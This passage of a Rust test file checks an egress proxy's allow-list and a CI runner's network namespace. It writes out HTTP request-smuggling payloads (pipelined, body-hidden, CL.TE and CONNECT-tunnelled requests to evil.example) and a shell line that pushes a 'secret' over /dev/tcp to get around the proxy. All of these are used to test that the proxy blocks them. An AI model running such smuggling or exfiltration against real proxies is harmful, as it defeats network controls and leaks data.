                    seen.extend_from_slice(&buffer[..n]);
                    record.lock().unwrap().extend_from_slice(&buffer[..n]);
                    let heads = seen.windows(4).filter(|w| w == b"\r\n\r\n").count();
                    while answered < heads {
                        answered += 1;
                        let _ = stream
                            .write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 3\r\n\r\nok\n")
                            .await;
                    }
                }
            });
        }
    });
    (port, received)
}

/// Request smuggling through the allow-list: on a connection whose first request goes to
/// the allowed host, a second one names another `Host` — sent after the first answer
/// (keep-alive), pipelined in the same write, hidden behind a body framed by
/// `Content-Length` or chunks, or riding a `CONNECT` tunnel as plain HTTP. A front that
/// keeps connections alive (against `Connection: close`) would route each to its `Host`:
/// none of them may reach it, and the client is told the connection closes.
#[tokio::test]
async fn a_second_request_on_a_connection_never_reaches_the_upstream() {
    let (port, received) = keep_alive_front().await;
    let allow = allow::AllowList::parse(&[format!("127.0.0.1:{port}")]).unwrap();
    let listener = tokio::net::TcpListener::bind(("127.0.0.1", 0))
        .await
        .unwrap();
    let proxy_port = listener.local_addr().unwrap().port();
    let (log, _lines) = mpsc::channel(64);
    let proxy = proxy::Proxy::serve(listener, None, allow, log);
    let first = |path: &str| {
        format!(
            "GET http://127.0.0.1:{port}/{path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\
             Connection: keep-alive\r\n\r\n"
        )
    };
    let second = "GET /two HTTP/1.1\r\nHost: evil.example\r\n\r\n".to_owned();
    let third = "GET http://evil.example/three HTTP/1.1\r\nHost: evil.example\r\n\r\n";
    // What the client reads until the proxy closes (or 2 s pass).
    async fn rest_of(client: &mut tokio::net::TcpStream) -> String {
        let mut answer = Vec::new();
        let _ = tokio::time::timeout(Duration::from_secs(2), client.read_to_end(&mut answer)).await;
        String::from_utf8_lossy(&answer).into_owned()
    }
    let connect = || async {
        tokio::net::TcpStream::connect(("127.0.0.1", proxy_port))
            .await
            .unwrap()
    };

    // Kept alive: the second request is sent once the first is answered.
    let mut client = connect().await;
    client.write_all(first("one").as_bytes()).await.unwrap();
    let mut answer = Vec::new();
    while !answer.ends_with(b"ok\n") {
        let mut buffer = [0u8; 1024];
        match tokio::time::timeout(Duration::from_secs(5), client.read(&mut buffer)).await {
            Ok(Ok(n)) if n > 0 => answer.extend_from_slice(&buffer[..n]),
            other => panic!("no answer to the first request: {other:?}"),
        }
    }
    let answer = String::from_utf8_lossy(&answer).to_ascii_lowercase();
    assert!(answer.contains("\r\nconnection: close\r\n"), "{answer}");
    let _ = client.write_all(second.as_bytes()).await;
    let _ = client.write_all(third.as_bytes()).await;
    let after = rest_of(&mut client).await;
    assert!(!after.contains("200"), "a second answer: {after}");

    // Pipelined: all three in one write.
    let mut client = connect().await;
    let pipelined = format!("{}{second}{third}", first("pipelined"));
    client.write_all(pipelined.as_bytes()).await.unwrap();
    let answers = rest_of(&mut client).await;
    assert_eq!(answers.matches("HTTP/1.1 200").count(), 1, "{answers}");

    // Behind a body: framed by Content-Length, and by chunks.
    let mut client = connect().await;
    let body = format!(
        "POST http://127.0.0.1:{port}/length HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\
         Content-Length: 5\r\n\r\nhello{second}"
    );
    client.write_all(body.as_bytes()).await.unwrap();
    rest_of(&mut client).await;
    let mut client = connect().await;
    let chunks = format!(
        "POST http://127.0.0.1:{port}/chunked HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\
         Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n{second}"
    );
    client.write_all(chunks.as_bytes()).await.unwrap();
    rest_of(&mut client).await;
    // Framed both ways (CL.TE): refused before anything is sent.
    let mut client = connect().await;
    let both = format!(
        "POST http://127.0.0.1:{port}/both HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\
         Content-Length: 48\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{second}"
    );
    client.write_all(both.as_bytes()).await.unwrap();
    let refused = rest_of(&mut client).await;
    assert!(refused.starts_with("HTTP/1.1 400"), "{refused}");

    // Plain HTTP inside a tunnel to the allowed host: its own Host passes once, another
    // never.
    for (inside, answered) in [
        (second.clone(), "HTTP/1.1 403"),
        (format!("{}{second}", first("tunnel")), "HTTP/1.1 200 OK"),
    ] {
        let mut client = connect().await;
        let tunnel = format!("CONNECT 127.0.0.1:{port} HTTP/1.1\r\n\r\n{inside}");
        client.write_all(tunnel.as_bytes()).await.unwrap();
        let answers = rest_of(&mut client).await;
        let answers = answers
            .strip_prefix("HTTP/1.1 200 Connection established\r\n\r\n")
            .unwrap_or_else(|| panic!("{answers}"));
        assert!(answers.starts_with(answered), "{answers}");
        assert_eq!(answers.matches("HTTP/1.1").count(), 1, "{answers}");
    }

    assert_eq!(proxy.finish().await, 1);
    let received = String::from_utf8_lossy(&received.lock().unwrap()).into_owned();
    for reached in [
        "/one ",
        "/pipelined ",
        "/length ",
        "hello",
        "/chunked ",
        "/tunnel ",
    ] {
        assert!(received.contains(reached), "{reached} missing: {received}");
    }
    for never in ["evil.example", "/two", "/three", "/both"] {
        assert!(
            !received.contains(never),
            "{never} reached the upstream: {received}"
        );
    }
}

/// A stand-in for the cluster's egress proxy: each `CONNECT` is answered by connecting to
/// its target and carrying the bytes both ways; every request head it reads is kept.
async fn fake_gateway() -> (u16, Arc<Mutex<Vec<String>>>) {
    let listener = tokio::net::TcpListener::bind(("127.0.0.1", 0))
        .await
        .unwrap();
    let port = listener.local_addr().unwrap().port();
    let heads = Arc::new(Mutex::new(Vec::new()));
    let kept = heads.clone();
    tokio::spawn(async move {
        while let Ok((mut client, _)) = listener.accept().await {
            let kept = kept.clone();
            tokio::spawn(async move {
                let mut head = Vec::new();
                let mut byte = [0u8; 1];
                while !head.ends_with(b"\r\n\r\n") {
                    match client.read(&mut byte).await {
                        Ok(1) => head.push(byte[0]),
                        _ => return,
                    }
                }
                let head = String::from_utf8_lossy(&head).into_owned();
                kept.lock().unwrap().push(head.clone());
                let Some(target) = head
                    .strip_prefix("CONNECT ")
                    .and_then(|rest| rest.split(' ').next())
                else {
                    let _ = client.write_all(b"HTTP/1.1 405 CONNECT only\r\n\r\n").await;
                    return;
                };
                let Ok(mut server) = tokio::net::TcpStream::connect(target).await else {
                    let _ = client.write_all(b"HTTP/1.1 502 Bad Gateway\r\n\r\n").await;
                    return;
                };
                let _ = client
                    .write_all(b"HTTP/1.1 200 Connection established\r\n\r\n")
                    .await;
                let _ = tokio::io::copy_bidirectional(&mut client, &mut server).await;
            });
        }
    });
    (port, heads)
}

/// On a pod of a class whose NetworkPolicy confines it, a runner that can make a network
/// namespace still gives the step one, as locally: the step's only way out is its runner's
/// proxy, which goes on through the cluster's egress proxy with the attempt's credential —
/// so a step cannot go around the proxies even where no NetworkPolicy is enforced. Where no
/// namespace can be made, the pod's network is the confinement, and the log says so.
#[tokio::test]
async fn on_a_pod_a_runner_that_can_gives_the_step_a_namespace_of_its_own() {
    let (log, _lines) = mpsc::channel(16);
    let allowed = http_server("allowed").await;
    let (gateway, heads) = fake_gateway().await;
    let gateway = format!("http://127.0.0.1:{gateway}");
    let policy = NetworkPolicy::Allow(vec![format!("127.0.0.1:{allowed}")]);
    let no_grant = confine_on_pod(&policy, Some(&gateway), None, &log).await;
    assert!(
        no_grant
            .as_ref()
            .is_err_and(|e| e.contains("no credential")),
        "{:?}",
        no_grant.map(|(_, said)| said)
    );
    if !root() {
        let (network, said) = confine_on_pod(&policy, Some(&gateway), Some("g.1"), &log)
            .await
            .unwrap();
        assert!(network.unwrap().namespace().is_none());
        assert_eq!(said, Some(THROUGH_GATEWAY));
        let (network, said) = confine_on_pod(&NetworkPolicy::None, None, None, &log)
            .await
            .unwrap();
        assert!(network.is_none());
        assert_eq!(said, Some(CONFINED_BY_POD));
        return;
    }
    let direct = Listener::tcp("127.0.0.1").await;
    let (network, said) = confine_on_pod(&policy, Some(&gateway), Some("g.1"), &log)
        .await
        .unwrap();
    let network = network.unwrap();
    assert!(network.namespace().is_some());
    assert_eq!(said, None);
    let gateway_port = gateway.rsplit(':').next().unwrap();
    let script = format!(
        r#"
        curl -s -m 5 --noproxy '' -x "$HTTP_PROXY" http://127.0.0.1:{allowed}/
        echo "secret" > /dev/tcp/127.0.0.1/{direct} && echo "direct: sent"
        printf 'CONNECT 127.0.0.1:{direct} HTTP/1.1\r\n\r\n' > /dev/tcp/127.0.0.1/{gateway_port} \
            && echo "gateway: sent"
        true
        "#,
        direct = direct.port
    );
    let printed = run(&script, Some(&network)).await;
    assert_eq!(network.finish().await, 0, "{printed}");
    assert!(printed.contains("hello from allowed"), "{printed}");
    assert!(!printed.contains("direct: sent"), "{printed}");
    assert!(!printed.contains("gateway: sent"), "{printed}");
    assert!(!direct.heard());
    // The cluster's proxy saw the runner's proxy only, with the attempt's credential
    // (base64 of "attempt:g.1"), for the listed host.
    let heads = heads.lock().unwrap().clone();
    assert_eq!(heads.len(), 1, "{heads:?}");
    assert!(
        heads[0].starts_with(&format!("CONNECT 127.0.0.1:{allowed} ")),
        "{heads:?}"
    );
    assert!(heads[0].contains("YXR0ZW1wdDpnLjE="), "{heads:?}");

    // The same script without the namespace reaches the host's listener: the control.
    let printed = run(&script, None).await;
    assert!(printed.contains("direct: sent"), "{printed}");

    // `none` on such a pod: a namespace of its own too, nothing said.
    let (network, said) = confine_on_pod(&NetworkPolicy::None, None, None, &log)
        .await
        .unwrap();
    assert!(network.unwrap().namespace().is_some());
    assert_eq!(said, None);
}
